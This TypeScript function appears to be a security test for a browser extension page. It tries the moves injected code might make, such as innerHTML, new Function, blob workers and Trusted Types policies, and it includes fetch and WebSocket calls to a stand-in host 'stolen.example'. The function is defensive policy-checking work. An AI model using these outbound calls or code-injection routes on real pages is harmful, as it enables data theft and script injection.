/** What code that got into a page of the extension would try next; answers what it could do. Runs in that page. */
export async function breakOut(): Promise<string[]> {
  const done: string[] = [];
  const tries: Record<string, () => unknown> = {
    'markup out of text': () => {
      document.createElement('div').innerHTML = '<b>x</b>';
    },
    'markup by a parser': () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
    // Not in the debugger's own call, which may do more.
    'code out of text': () =>
      new Promise((resolve, reject) => {
        setTimeout(() => {
          try {
            resolve(new Function('return 1')());
          } catch (error) {
            reject(error);
          }
        });
      }),
    'a request': () => fetch('https://stolen.example/'),
    'a socket': () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket('wss://stolen.example/');
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
    'an image from elsewhere': () =>
      new Promise((resolve, reject) => {
        const image = new Image();
        image.onload = resolve;
        image.onerror = reject;
        image.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=';
      }),
    'a worker out of text': () =>
      new Promise((resolve, reject) => {
        const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
        worker.onmessage = resolve;
        worker.onerror = reject;
      }),
    'a policy of its own': () => Reflect.get(globalThis, 'trustedTypes').createPolicy('stolen', {}),
  };
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await attempt();
      done.push(name);
    } catch {
      // The policy holds.
    }
  }
  return done;
}
